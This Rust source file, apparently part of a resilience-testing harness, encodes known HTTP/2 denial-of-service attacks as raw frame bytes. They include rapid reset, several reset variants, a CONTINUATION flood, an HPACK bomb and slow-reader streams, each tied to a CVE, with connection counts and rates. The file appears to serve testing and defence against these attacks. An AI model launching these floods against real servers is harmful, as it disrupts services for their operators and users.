//! What an attack is; and what HTTP/2 is known to be attacked with, as bytes: an opening, and a unit that is said over and over.

use std::time::Duration;

use proto::h2::ErrorCode;
use proto::h2::frame::{END_HEADERS, END_STREAM, Kind};
use proto::h2::settings::INITIAL_WINDOW_SIZE;

use super::h3;
use super::wire::{get, made, post, request, settings, stream, window_update};
use crate::scenario::Over;

/// One attack.
#[derive(Debug, Clone, Copy)]
pub(super) struct Attack {
    pub(super) name: &'static str,
    /// At once; each that is cut off comes back.
    pub(super) connections: usize,
    /// It is under way for so long before it is looked at.
    pub(super) head_start: Duration,
    /// Units that each connection says a tick.
    pub(super) units: u32,
    pub(super) how: How,
}

/// What is said, and over what.
#[derive(Debug, Clone, Copy)]
pub(super) enum How {
    /// Bytes of HTTP/2: our SETTINGS, and the nth unit of a connection; the first is the opening, too.
    Frames { settings: &'static [(u16, u32)], unit: fn(u32) -> Vec<u8> },
    /// On streams of QUIC.
    Streams(h3::Streams),
    /// Whole connections of QUIC, on which nothing is asked.
    Handshakes,
    /// First datagrams of QUIC, from ever other addresses, where nobody answers.
    Initials,
}

impl Attack {
    /// Who speaks what it abuses.
    pub(super) fn over(&self) -> Over {
        if matches!(self.how, How::Frames { .. }) { Over::H2 } else { Over::H3 }
    }
}

/// Over HTTP/2, then over HTTP/3.
pub(super) fn all() -> impl Iterator<Item = &'static Attack> {
    ATTACKS.iter().chain(h3::ATTACKS)
}

const fn frames(unit: fn(u32) -> Vec<u8>) -> How {
    How::Frames { settings: &[], unit }
}

/// A flood: eight connections, 40,000 units a second in all.
pub(super) const FLOOD: Attack =
    Attack { name: "", connections: 8, head_start: Duration::from_millis(300), units: 25, how: frames(|_| Vec::new()) };

const ATTACKS: &[Attack] = &[
    // CVE-2023-44487.
    Attack { name: "rapid-reset", how: frames(|nth| [get(stream(nth), "/100"), reset(stream(nth))].concat()), ..FLOOD },
    // CVE-2025-8671, in the six forms of its discoverers.
    Attack { name: "reset-by-window-zero", how: frames(|nth| asked(nth, window_update(stream(nth), 0))), ..FLOOD },
    Attack {
        name: "reset-by-window-overflow",
        how: frames(|nth| asked(nth, window_update(stream(nth), MOST))),
        ..FLOOD
    },
    Attack { name: "reset-by-headers", how: frames(|nth| asked(nth, get(stream(nth), "/100"))), ..FLOOD },
    Attack {
        name: "reset-by-data",
        how: frames(|nth| asked(nth, made(Kind::Data, END_STREAM, stream(nth), b"x"))),
        ..FLOOD
    },
    Attack {
        name: "reset-by-priority-length",
        how: frames(|nth| asked(nth, made(Kind::Priority, 0, stream(nth), &[0; 4]))),
        ..FLOOD
    },
    Attack { name: "reset-by-self-dependency", how: frames(|nth| asked(nth, on_itself(stream(nth)))), ..FLOOD },
    // CVE-2024-27316.
    Attack {
        name: "continuation",
        how: frames(|nth| match nth {
            0 => made(Kind::Headers, END_STREAM, 1, &request("GET", "/100")),
            _ => made(Kind::Continuation, 0, 1, &b"\x00\x03x-a\x01b".repeat(100)),
        }),
        ..FLOOD
    },
    // CVE-2026-49975 and its like: a field of 3,900 bytes is said 500 times by one byte each, and nothing of what comes of it is read.
    Attack {
        name: "hpack-bomb",
        units: 1,
        how: How::Frames { settings: &[(INITIAL_WINDOW_SIZE, 0)], unit: bomb },
        ..FLOOD
    },
    // CVE-2019-9515, 9512, 9518.
    Attack { name: "settings", how: frames(|nth| settings(&[(INITIAL_WINDOW_SIZE, nth % 2 * 65_535)])), ..FLOOD },
    Attack { name: "ping", how: frames(|_| made(Kind::Ping, 0, 0, &[0; 8])), ..FLOOD },
    Attack { name: "window-update", how: frames(|_| window_update(0, 1)), ..FLOOD },
    Attack {
        name: "empty-data",
        how: frames(|nth| if nth == 0 { post(1, "/100") } else { made(Kind::Data, 0, 1, &[]) }),
        ..FLOOD
    },
    // CVE-2019-9511: a thousand answers of a MiB, of which each gets a byte now and then. The origin that everybody shares is busy with them for a
    // second, through whichever proxy; what they do to the proxy comes after that.
    Attack {
        name: "slow-readers",
        connections: 10,
        head_start: Duration::from_secs(3),
        units: 1,
        how: How::Frames {
            settings: &[(INITIAL_WINDOW_SIZE, 1)],
            unit: |nth| match nth {
                0 => (0..100).flat_map(|nth| get(stream(nth), "/1m")).collect(),
                _ => window_update(stream(nth % 100), 1),
            },
        },
    },
];

const MOST: u32 = 0x7fff_ffff;

/// A request, and something that goes wrong with it.
fn asked(nth: u32, more: Vec<u8>) -> Vec<u8> {
    [get(stream(nth), "/1m"), more].concat()
}

fn reset(stream: u32) -> Vec<u8> {
    made(Kind::Reset, 0, stream, &ErrorCode::CANCEL.0.to_be_bytes())
}

fn on_itself(stream: u32) -> Vec<u8> {
    made(Kind::Priority, 0, stream, &[&stream.to_be_bytes()[..], &[0]].concat())
}

/// The first teaches the table a field (RFC 7541 §6.2.1), of which index 62 is the newest.
fn bomb(nth: u32) -> Vec<u8> {
    let big = [&b"\x40\x03x-a\x7f\xbd\x1d"[..], &[b'x'; 3_900]].concat();
    let learnt = if nth == 0 { big } else { Vec::new() };
    let block = [&request("GET", "/100")[..], &learnt, &[0x80 | 62; 500]].concat();
    made(Kind::Headers, END_HEADERS | END_STREAM, stream(nth), &block)
}
